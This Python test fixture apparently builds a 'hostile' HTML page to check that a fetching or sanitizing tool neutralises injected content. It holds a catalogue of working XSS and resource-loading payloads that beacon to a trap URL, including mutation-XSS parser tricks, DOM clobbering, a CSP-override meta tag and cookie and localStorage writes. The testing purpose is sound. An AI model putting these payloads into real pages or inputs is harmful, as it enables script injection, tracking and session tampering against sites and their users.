"""A page that tries everything: each attempt, if it works, asks a trap for a path of its own."""

from scythe.fetch.inputs import LoadedPage

_JS = "new Image().src='T/hit/{0}'"

# Attempts that work by themselves when such a page is opened as a page: the control of the tests.
WORKING = {
    "inline": f"<script>{_JS}</script>",
    "external": "<script src=T/hit/external></script>",
    "module": "<script type=module>import('T/hit/module')</script>",
    "image-error": f'<img src="T/nothing" onerror="{_JS}">',
    "svg-load": f'<svg onload="{_JS}"></svg>',
    "svg-script": f"<svg><script>{_JS}</script></svg>",
    "details": f'<details open ontoggle="{_JS}">x</details>',
    "focus": f'<input autofocus onfocus="{_JS}">',
    "style-load": f'<style onload="{_JS}"></style>',
    "srcdoc": f'<iframe srcdoc="<script>{_JS}</script>"></iframe>',
    "frame": "<iframe src=T/hit/frame></iframe>",
    "frame-javascript": f'<iframe src="javascript:parent.eval(`{_JS}`)"></iframe>',
    "object": "<object data=T/hit/object></object>",
    "embed": "<embed src=T/hit/embed type=text/html>",
    "sheet": "<link rel=stylesheet href=T/hit/sheet>",
    "import": "<style>@import 'T/hit/import';</style>",
    "background": "<style>.bg{background:url(T/hit/background)}</style><p class=bg>x</p>",
    "escaped-url": "<style>.be{background:u\\72 l(T/hit/escaped-url)}</style><p class=be>x</p>",
    "style-attribute": '<p style="background-image:url(T/hit/style-attribute)">x</p>',
    "image-set": "<p style=\"background-image:image-set('T/hit/image-set' 1x)\">x</p>",
    "font": "<style>@font-face{font-family:q;src:url(T/hit/font)}.q{font-family:q}</style><p class=q>x</p>",
    "attribute-selector": "<style>a[href^='/s']{background:url(T/hit/attribute-selector)}</style><a href=/secret>x</a>",
    "picture": "<img src=T/hit/picture>",
    "srcset": "<img srcset='T/hit/srcset 1x'>",
    "input-image": "<input type=image src=T/hit/input-image>",
    "poster": "<video poster=T/hit/poster></video>",
    "video": "<video src=T/hit/video preload=auto></video>",
    "audio": "<audio src=T/hit/audio preload=auto></audio>",
    "table": "<table background=T/hit/table><tr><td>x</table>",
    "svg-image": "<svg><image href=T/hit/svg-image width=9 height=9 /></svg>",
    "preload": "<link rel=preload as=image href=T/hit/preload>",
    "modulepreload": "<link rel=modulepreload href=T/hit/modulepreload>",
    "fetch": "<script>fetch('T/hit/fetch')</script>",
    "beacon": "<script>navigator.sendBeacon('T/hit/beacon')</script>",
    "shadow": f'<div><template shadowrootmode=open><img src=x onerror="{_JS}"></template></div>',
    "submit": "<form id=f action=T/hit/submit target=t><input name=a value=b></form><iframe name=t></iframe>"
    "<script>f.submit()</script>",
    "opened": "<script>window.open('T/hit/opened')</script>",
    "parent": "<script>top.pwned='yes';top.document.title='pwned'</script>",
    "kept": "<script>document.cookie='pwned=1';localStorage.pwned=1</script>",
    "dialog": "<script>alert('pwned')</script>",
    "console": "<script>console.error('pwned')</script>",
}
# Attempts that want a click, lead away, or work in other places or browsers only.
OTHER = {
    "javascript-link": f'<a href="javascript:{_JS}" target=_top>click</a>',
    "top-link": "<a href=T/hit/top-link target=_top style='position:fixed;inset:0;z-index:9999'>click</a>",
    "ping": "<a href=# ping=T/hit/ping>click</a>",
    "label": "<label for=q>click</label><form action=T/hit/label><button id=q>click</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=T/hit/refresh'>",
    "refresh-data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>1</script>'>",
    "base": "<base href=T/hit/ target=_top><img src=base>",
    "area": "<img src=x usemap=#m><map name=m><area href=T/hit/area coords=0,0,999,999 target=_top></map>",
    "clobber": "<form name=body><input name=parentNode></form><img name=documentElement><object id=body></object>"
    "<img name=querySelectorAll id=querySelectorAll><a id=location></a><form id=contentWindow name=defaultView></form>",
    "numbers": "<p data-sc=0 data-sc-image=0>x</p><img data-sc-image=0 data-sc=1 src=T/hit/numbers>",
    "modal": "<dialog open style='position:fixed;inset:0;z-index:2147483647'>x</dialog><div popover id=p>x</div>",
    "worker": "<script>navigator.serviceWorker&&navigator.serviceWorker.register('/hit/worker')</script>",
    "message": "<script>parent.postMessage('pwned','*');opener&&(opener.location='T/hit/opener')</script>",
    "csp": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\"><script>1</script>",
    "noscript": '<noscript><p title="</noscript><img src=T/hit/noscript onerror=1>"></noscript>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_JS}&gt;">',
    "mutation-svg": f'<svg></p><style><a id="</style><img src=1 onerror={_JS}>">',
    "textarea": f'<textarea><img title="</textarea><img src=T/hit/textarea onerror={_JS}>"></textarea>',
    "xmp": "<xmp><p title='</xmp><img src=T/hit/xmp>'></xmp>",
    "comment": "<!--><img src=T/hit/comment>--><!-- --!><img src=T/hit/comment2>-->",
    "cdata": "<svg><desc><![CDATA[</desc><script>1</script>]]></svg>",
    "expression": "<p style='width:expression(alert(1));-moz-binding:url(T/hit/binding);behavior:url(T/hit/b)'>x</p>",
    "cover": "<style>*{position:fixed!important;inset:0!important;height:1e9px!important}body{display:none}</style>",
    "huge": "<table><td rowspan=99999999 colspan=99999999 width=999999999>x</table><img src=x height=999999999>",
}


def attempts(trap_url: str, which: dict[str, str]) -> dict[str, str]:
    """Return the attempts against a trap."""
    return {name: text.replace("{0}", name).replace("T/", f"{trap_url}/") for name, text in which.items()}


def hostile_page(trap_url: str, which: dict[str, str] | None = None) -> LoadedPage:
    """Return a page with all of them, one in a section each, so that those left open do not hide the others."""
    parts = attempts(trap_url, which or {**WORKING, **OTHER})
    body = "\n".join(f"<section><h2>{name}</h2>{text}</section>" for name, text in parts.items())
    html = f"<!doctype html><title>Hostile</title><body onload=\"document.title='pwned'\">{body}"
    return LoadedPage("hostile", html.encode(), "https://site.example/hostile", "text/html")
